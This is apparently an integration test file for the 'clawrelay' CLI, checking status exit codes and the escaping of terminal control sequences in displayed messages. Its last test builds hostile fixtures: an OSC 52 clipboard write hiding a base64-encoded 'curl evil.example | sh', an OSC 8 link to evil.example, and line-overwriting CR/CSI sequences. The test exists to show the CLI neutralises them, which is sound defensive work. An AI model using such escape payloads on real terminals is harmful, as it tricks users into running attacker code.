// `clawrelay status` as a script reads it (issue 32, item 5): it exited 0 while PAUSED or GATEWAY DOWN,
// and before `init` it said to run `clawrelay start` (which then asks for init). Now: 0 running and
// delivering, 3 paused, 4 gateway down (cli-status.ts STATUS_EXIT), and init named first. Also item 8
// through the real CLI: a message whose body holds terminal escape sequences is listed and shown with
// none of them reaching the terminal (the relay refuses them in a sub-path; terminal-output.test.ts
// covers paths, headers and app errors). The real relay (Miniflare), the real agent and CLI, a
// stand-in gateway.
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { startAgent } from "../../local-agent/agent.ts";
import { silentLogger } from "../../local-agent/logger.ts";
import { postHook, relayFixture, waitUntil } from "../support/node/stack.ts";
import type { AgentHome } from "../support/node/stack.ts";
import { runCli } from "./cli-harness.ts";
import type { CliResult } from "./cli-harness.ts";

const fixture = relayFixture();

/** Anything a terminal acts on: ESC, BEL, CR, the C1 controls (CSI 0x9b, OSC 0x9d), the bidi overrides. */
const ACTING = /[\u0007\u001b\r\u0080-\u009f\u202a-\u202e\u2066-\u2069]/;

/** The real agent of `home`, writing run.json where `clawrelay status` looks. */
async function runningAgent(home: AgentHome): Promise<void> {
  const agent = await startAgent({ settings: home.settings, env: home.env, logger: silentLogger, apiPort: 0, runDir: home.env.CLAWRELAY_HOME });
  fixture.cleanups.push(() => agent.close());
  await waitUntil("the agent connected", () => agent.status().relay.state === "connected");
}

/** `clawrelay status`, run until its answer satisfies `seen` (the agent's state changes on its own time). */
async function statusWhen(home: AgentHome, seen: (result: CliResult) => boolean): Promise<CliResult> {
  let last: CliResult | null = null;
  await waitUntil("status to report the state", async () => seen((last = await runCli(["status"], home.env))));
  return last!;
}

describe("clawrelay status exit codes", () => {
  it("before init: says to run clawrelay init (not start), exit 1", async () => {
    const dir = await mkdtemp(join(tmpdir(), "clawrelay-noinit-"));
    fixture.cleanups.push(() => rm(dir, { recursive: true, force: true }));
    const result = await runCli(["status"], { CLAWRELAY_HOME: join(dir, "clawrelay"), HOME: dir, OPENCLAW_CONFIG_PATH: join(dir, "openclaw.json") });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(`no settings at ${join(dir, "clawrelay", "agent.json")}; run \`clawrelay init --relay <url>\` first, then start it with: clawrelay start`);
  });

  it("0 while delivering, 4 while GATEWAY DOWN; --json exits the same", async () => {
    const { gateway, home } = await fixture.setUp();
    await runningAgent(home);
    expect((await postHook(fixture.relay().url, home, "agentgram_inbox/agent", JSON.stringify({ message: "first" }))).status).toBe(202);
    await waitUntil("the first message delivered", async () => (await runCli(["status", "--json"], home.env)).stdout.includes('"delivered": 1'));
    const running = await runCli(["status"], home.env);
    expect(running.code, running.stderr).toBe(0);

    await gateway.close();
    await postHook(fixture.relay().url, home, "agentgram_inbox/agent", JSON.stringify({ message: "into the outage" }));
    const down = await statusWhen(home, (r) => r.stdout.includes("GATEWAY DOWN"));
    expect(down.code, down.stdout).toBe(4);
    expect((await runCli(["status", "--json"], home.env)).code).toBe(4);
  }, 60_000);

  it("3 while PAUSED (the gateway answers 401: a wrong hooks token)", async () => {
    const { gateway, home } = await fixture.setUp();
    gateway.refuse = () => 401;
    await runningAgent(home);
    await postHook(fixture.relay().url, home, "agentgram_inbox/agent", JSON.stringify({ message: "refused by the token check" }));
    const paused = await statusWhen(home, (r) => r.stdout.includes("PAUSED"));
    expect(paused.code, paused.stderr).toBe(3);
    expect((await runCli(["status", "--json"], home.env)).code).toBe(3);
  }, 60_000);

  it("a body with escape sequences (OSC 52, OSC 8, CSI, CR) reach the terminal escaped, in messages and messages show", async () => {
    const { gateway, home } = await fixture.setUp();
    await gateway.close();
    const osc52 = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";
    const link = "\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\";
    const body = JSON.stringify({ message: `hello${osc52}`, note: `${link}\rOK    \u001b[2K\u009b31m` });
    // The body as raw bytes, not JSON: its escapes must not be undone by JSON's own quoting.
    const raw = `plain line\n${osc52}\r\u001b[1Aoverwritten${link}`;
    const posted = await postHook(fixture.relay().url, home, "agentgram_inbox/agent", body);
    const rawPosted = await fetch(`${fixture.relay().url}/inbox/${home.settings.agent_id}/hooks/agentgram_inbox/agent`, {
      method: "POST",
      headers: { authorization: `Bearer ${home.settings.webhook_token}`, "content-type": "text/plain" },
      body: raw,
    });
    expect(posted.status).toBe(202);
    expect(rawPosted.status).toBe(202);
    const rawId = ((await rawPosted.json()) as { id: number }).id;

    const list = await runCli(["messages"], home.env);
    expect(list.code, list.stderr).toBe(0);
    expect(list.stdout).not.toMatch(ACTING);
    for (const id of [String(posted.body.id), String(rawId)]) {
      const shown = await runCli(["messages", "show", id], home.env);
      expect(shown.code, shown.stderr).toBe(0);
      expect(shown.stdout).not.toMatch(ACTING);
      const json = await runCli(["messages", "show", id, "--json"], home.env);
      expect(json.stdout).not.toMatch(ACTING);
      // Still JSON, and still the sender's bytes once parsed.
      expect(typeof (JSON.parse(json.stdout) as { body: string }).body).toBe("string");
    }
    const rawShown = await runCli(["messages", "show", String(rawId)], home.env);
    expect(rawShown.stdout).toContain("plain line\n\\x1b]52;c;");
    expect(rawShown.stdout).toContain("\\x0d\\x1b[1Aoverwritten");
    expect(JSON.parse((await runCli(["messages", "show", String(rawId), "--json"], home.env)).stdout).body).toBe(raw);
  }, 60_000);
});
